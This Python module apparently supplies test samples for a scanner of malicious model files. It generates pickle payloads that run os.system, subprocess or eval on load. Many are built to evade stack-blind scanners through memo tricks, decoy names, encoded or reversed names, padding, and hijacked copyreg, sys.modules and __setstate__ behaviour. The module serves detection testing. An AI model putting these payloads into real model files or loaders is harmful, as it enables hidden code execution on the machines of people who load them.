"""Pickles that get at a function by every opcode that can, and that hide which one it is from whoever does not keep a stack."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tests.malicious_models.assembling import (
    Build,
    New,
    Put,
    Raw,
    at,
    attribute,
    call,
    method,
    module,
    new,
    opcodes_of,
    pickled,
    then,
)
from tests.malicious_models.sample import Payload, Sample

Named = Iterator[tuple[str, bytes]]


def short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text.encode())]) + text.encode()


def finding(p: Payload) -> Named:
    """Each opcode that looks up a name or makes an instance, in each protocol that has it."""
    shell = p.shell.encode()
    argument = short(p.shell)
    for protocol in range(6):
        yield f"REDUCE, protocol {protocol}", pickled(p.system, protocol)
        yield f"builtins.eval, protocol {protocol}", pickled(call("builtins:eval", p.python), protocol)
    yield "GLOBAL of posix", b"cposix\nsystem\n(V" + shell + b"\ntR."
    yield "GLOBAL with STRING", b"cos\nsystem\n(S'" + shell + b"'\ntR."
    yield "GLOBAL with BINSTRING", b"cos\nsystem\n(T" + struct.pack("<I", len(shell)) + shell + b"tR."
    yield "GLOBAL with SHORT_BINSTRING", b"cos\nsystem\n(U" + bytes([len(shell)]) + shell + b"tR."
    yield "GLOBAL with BINUNICODE8", b"\x80\x04cos\nsystem\n\x8d" + struct.pack("<Q", len(shell)) + shell + b"\x85R."
    yield "GLOBAL in protocol 5", b"\x80\x05cos\nsystem\n" + argument + b"\x85R."
    yield "INST", b"(V" + shell + b"\nios\nsystem\n."
    yield "INST of subprocess", b"(V" + shell + b"\nisubprocess\ngetoutput\n."
    yield "OBJ", b"(cos\nsystem\nV" + shell + b"\no."
    yield "OBJ of STACK_GLOBAL", b"\x80\x04(" + short("os") + short("system") + b"\x93" + argument + b"o."
    yield "NEWOBJ of map", pickled(new("builtins:bytes", new("builtins:map", at("os:system"), [p.shell])), 4)
    yield "NEWOBJ of map, protocol 2", pickled(new("__builtin__:tuple", new("itertools:imap", at("os:system"), [p.shell])), 2)
    starred = new("itertools:starmap", at("os:system"), [(p.shell,)])
    yield "NEWOBJ of starmap", pickled(new("builtins:frozenset", starred))
    by_name = New(at("functools:partial"), (at("os:system"),), {"command": p.shell})
    yield "NEWOBJ_EX", pickled(call(by_name))
    with_one = new("enum:property", at("os:system"))
    yield "NEWOBJ, then a method", pickled(method(Build(with_one, {"fget": at("os:system"), "name": "x"}), "fget", p.shell))
    yield "REDUCE without arguments", pickled(call(call("functools:partial", at("os:system"), p.shell)))
    for code, opcode in ((200, b"\x82\xc8"), (2000, b"\x83\xd0\x07"), (200_000, b"\x84\x40\x0d\x03\x00")):
        registered = Put(at("copyreg:_inverted_registry"), code, ("os", "system"))
        found = then(registered, Raw(opcode))
        yield f"EXT{len(opcode) - 1} of a registry that it fills", pickled(call(found, p.shell))
        cached = Put(at("copyreg:_extension_cache"), code, at("os:system"))
        yield f"EXT{len(opcode) - 1} of a cache that it fills", pickled(call(then(cached, Raw(opcode)), p.shell))
    added = call("copyreg:add_extension", "os", "system", 250)
    yield "copyreg.add_extension", pickled(call(then(added, Raw(b"\x82\xfa")), p.shell))
    for old, name in (("commands", "getoutput"), ("posix", "system")):
        yield f"name of Python 2: {old}", pickled(call(f"{old}:{name}", p.shell), 2)
    yield "name of Python 2: eval", pickled(call("__builtin__:eval", p.python), 2)
    yield "name of Python 2: reduce", pickled(call("__builtin__:reduce", at("__builtin__:eval"), [p.python, {}]), 2)
    yield "name of Python 2: cPickle", pickled(call("cPickle:loads", p.pickle), 2)
    added = call("copy_reg:add_extension", "os", "system", 251)
    yield "name of Python 2: copy_reg", pickled(call(then(added, Raw(b"\x82\xfb")), p.shell), 2)
    for old, protocol in (("imap", 2), ("ifilter", 1)):
        listed = call("__builtin__:list", call(f"itertools:{old}", at("os:system"), [p.shell]))
        yield f"name of Python 2: itertools.{old}", pickled(listed, protocol)
    yield "name of Python 2: thread", pickled(call("thread:start_new_thread", at("os:system"), (p.shell,)), 0)
    yield "name of Python 2: urllib", pickled(call("urllib:urlretrieve", "data:,x", p.marker), 2)
    yield "name of Python 2: UserDict", pickled(then(at("UserDict:IterableUserDict"), p.system), 2)
    yield "GLOBAL with a dotted name", b"\x80\x04cshutil\nos.system\n" + argument + b"\x85R."
    yield "GLOBAL of a module with a dot", pickled(call("os.path:os.system", p.shell))
    yield "GLOBAL of a part of __main__", pickled(call("__main__:__builtins__.eval", p.python))
    yield "function from a dict", pickled(call("operator:getitem", at("os:__dict__"), "system"))[:-1] + argument + b"\x85R."


def building(p: Payload) -> Named:
    """BUILD, SETITEM and APPEND do what a class or a module lets them do."""
    system, shell = at("os:system"), p.shell
    plain = call("types:SimpleNamespace")
    yield "BUILD calls what the state brought", pickled(Build(Build(plain, {"__setstate__": system}), shell))
    space = call("argparse:Namespace")
    yield "BUILD of Namespace twice", pickled(Build(Build(space, {"__setstate__": system}), shell), 2)
    exception = new("builtins:Exception")
    held = Build(exception, {"__setstate__": system})
    yield "BUILD of an exception", pickled(then(held, call(attribute(held, "__setstate__"), shell)))
    spoiled = Build(at("argparse:Namespace"), (None, {"__setstate__": system}))
    yield "BUILD of a class, by slots", pickled(then(spoiled, Build(new("argparse:Namespace"), shell)))
    function = at("argparse:ngettext")
    names = then(Build(function, (None, {"a": "os"})), Build(function, (None, {"b": "system"})))
    by_attributes = Raw(opcodes_of(at("argparse:ngettext.a")) + opcodes_of(at("argparse:ngettext.b")) + b"\x93")
    yield "names that BUILD put on a function", pickled(call(then(names, by_attributes), shell))
    code = call("types:FunctionType", call("builtins:compile", p.python, "", "exec"), {})
    yield (
        "BUILD gives a function another code",
        pickled(
            call(
                then(
                    Build(at("argparse:_get_action_name"), (None, {"__code__": attribute(code, "__code__")})),
                    at("argparse:_get_action_name"),
                )
            )
        ),
    )
    yield "BUILD of a module", pickled(call(then(Build(module("colorsys"), {"evil": system}), at("colorsys:evil")), shell))
    aliased = Put(at("sys:modules"), "sys", call("sys:modules.__getitem__", "os"))
    yield "SETITEM of sys.modules", pickled(call(then(aliased, at("sys:system")), shell))
    fresh = Put(at("sys:modules"), "numpy_", call("sys:modules.get", "posix"))
    yield "SETITEM of sys.modules, a new name", pickled(call(then(fresh, at("numpy_:system")), shell))
    table = Put(at("builtins:__dict__"), "evil", system)
    yield "SETITEM of a module's names", pickled(call(then(table, at("builtins:evil")), shell))
    dispatch = Put(at("copyreg:dispatch_table"), 1, p.system)
    yield "SETITEM of copyreg.dispatch_table", pickled(dispatch)
    path = method(at("sys:path"), "insert", 0, "/")
    yield "APPEND to sys.path", pickled(then(path, p.system))
    hooks = opcodes_of(at("sys:meta_path")) + opcodes_of(call("types:SimpleNamespace")) + b"a0"
    yield "APPEND to sys.meta_path", b"\x80\x04" + hooks + opcodes_of(p.system) + b"."
    lister = call("collections:deque", [], 0)
    mapped = call("builtins:map", system, [shell])
    yield "APPENDS to a deque", pickled(then(method(lister, "extend", mapped)))
    yield "APPEND by an attribute", pickled(Raw(opcodes_of(Build(plain, {"append": system})) + short(shell) + b"a"))
    yield "APPENDS by an attribute", pickled(Raw(opcodes_of(Build(plain, {"append": system})) + b"(" + short(shell) + b"e"))
    extended = Build(plain, {"extend": at("subprocess:call")})
    yield "APPENDS, extend by an attribute", pickled(Raw(opcodes_of(extended) + b"(" + b"".join(map(short, p.argv)) + b"e"))
    yield "ADDITEMS by an attribute", pickled(Raw(opcodes_of(Build(plain, {"add": system})) + b"(" + short(shell) + b"\x90"))
    key = call("builtins:type", "K", (), {"__hash__": call("functools:partial", system, shell)})
    yield "SETITEM with a key that is hashed", b"\x80\x04}" + opcodes_of(call(key)) + b"Ns."
    yield "DICT with a key that is hashed", b"\x80\x04(" + opcodes_of(call(key)) + b"Nd."
    yield "FROZENSET of what is hashed", b"\x80\x04(" + opcodes_of(call(key)) + b"\x91."
    setter = call("builtins:type", "S", (), {"__setitem__": call("functools:partial", at("cProfile:run"), p.python)})
    yield "SETITEM of what has __setitem__", b"\x80\x04" + opcodes_of(call(setter)) + b"NNs."
    ordered = call("collections:defaultdict", call("functools:partial", system, shell))
    yield "a default that is made", pickled(method(ordered, "__missing__", 1))


def memoing(p: Payload) -> Named:
    """STACK_GLOBAL takes what is on the stack, wherever it came from."""
    argument = short(p.shell)
    end = b"\x93" + argument + b"\x85R."
    os, system = short("os"), short("system")
    decoys = short("collections") + short("OrderedDict")
    yield "STACK_GLOBAL", b"\x80\x04" + os + system + end
    yield "names by PUT and GET", b"\x80\x04" + os + b"p1\n0" + system + b"p2\n0g1\ng2\n" + end
    yield "names by BINPUT and BINGET", b"\x80\x04" + os + b"q\x010" + system + b"q\x020h\x01h\x02" + end
    far, farther = struct.pack("<I", 300), struct.pack("<I", 301)
    put_far = os + b"r" + far + b"0" + system + b"r" + farther + b"0"
    yield "names by LONG_BINPUT", b"\x80\x04" + put_far + b"j" + far + b"j" + farther + end
    yield "names by MEMOIZE", b"\x80\x04" + os + b"\x940" + system + b"\x940h\x00h\x01" + end
    slots = decoys.replace(b"OrderedDict", b"OrderedDict\x94").replace(b"\x8c\x0bOrdered", b"\x94\x8c\x0bOrdered")
    yield "memo overwritten", b"\x80\x04" + slots + b"00" + os + b"q\x000" + system + b"q\x010h\x00h\x01" + end
    confused = os + b"q\x000" + system + b"q\x010" + short("torch._utils") + b"\x940" + short("_rebuild_tensor_v2") + b"\x940"
    yield "MEMOIZE after BINPUT", b"\x80\x04" + confused + b"h\x00h\x01" + end
    yield "memo of another number than it seems", b"\x80\x04" + os + b"p0\n0" + system + b"p01\n0" + b"g00\ng1\n" + end
    yield "PUT with a negative-looking number", b"\x80\x04" + os + b"p 7\n0" + system + b"p+8\n0g7 \ng 8\n" + end
    yield "decoy names popped", b"\x80\x04" + os + system + decoys + b"00" + end
    yield "decoy names after MARK", b"\x80\x04" + os + system + b"(" + decoys + b"1" + end
    yield "decoy names in a tuple", b"\x80\x04" + os + system + decoys + b"\x860" + end
    yield "DUP", b"\x80\x04" + os + b"2" + b"0" + system + b"20" + end
    yield "names between other opcodes", b"\x80\x04" + os + b"N0" + b"]0" + system + b"}0(1" + end
    yield "function through the memo", b"\x80\x04" + os + system + b"\x93q\x050" + b"h\x05" + argument + b"\x85R."
    yield "arguments through the memo", b"\x80\x04" + argument + b"\x85q\x060" + os + system + b"\x93h\x06R."
    yield "function from a tuple", pickled(call(call("operator:getitem", (at("os:system"),), 0), p.shell))
    joined = call("builtins:str.join", "", ["sys", "tem"])
    yield "name that is put together", pickled(call(Raw(os + opcodes_of(joined, memo={}) + b"\x93"), p.shell))
    turned = call("operator:getitem", "metsys", call("builtins:slice", None, None, -1))
    yield "name that is turned around", pickled(call(Raw(os + opcodes_of(turned) + b"\x93"), p.shell))
    yield "name by rot13", pickled(call(Raw(os + opcodes_of(call("codecs:decode", "flfgrz", "rot13")) + b"\x93"), p.shell))
    yield "names as UNICODE with escapes", b"\x80\x04V\\u006fs\nV\\u0073ystem\n" + end
    yield "names as BINUNICODE", b"\x80\x04X\x02\x00\x00\x00osX\x06\x00\x00\x00system" + end
    yield "names as STRING", b"\x80\x04S'os'\nS'sys\\x74em'\n" + end
    yield "names as SHORT_BINSTRING", b"\x80\x04U\x02osU\x06system" + end
    yield "many names before", b"\x80\x04" + b"".join(short(f"x{place}") + b"\x940" for place in range(300)) + os + system + end
    yield "deep stack before", b"\x80\x04" + b"N" * 3000 + os + system + end
    yield "opcodes that do nothing", b"\x80\x04" + b"N0" * 30_000 + os + system + end
    yield "strings of harmless names around", b"\x80\x04" + decoys + b"\x93" + decoys + b"\x9300" + os + system + end
    benign = opcodes_of(call("collections:OrderedDict"))
    yield "what is good first", b"\x80\x04" + benign + b"0" + os + system + end
    yield (
        "what is good last",
        b"\x80\x04" + os + system + b"\x93" + argument + b"\x85R0" + benign.replace(b"r\x00\x00\x00\x00", b"") + b".",
    )
    yield "in a dict of weights", b"\x80\x04}(" + short("weight") + opcodes_of(p.system) + b"u."
    yield "left on the stack", b"\x80\x04" + opcodes_of(p.system) + b"}."
    yield "popped with its mark", b"\x80\x04(" + opcodes_of(p.system) + b"1}."


def samples(p: Payload) -> Iterator[Sample]:
    for family in (finding, building, memoing):
        for name, data in family(p):
            sure = "another number" not in name  # it has leading zeros, which Python takes
            yield Sample(f"{family.__name__}: {name}", "model.pkl", data, "pickle", sure=sure)
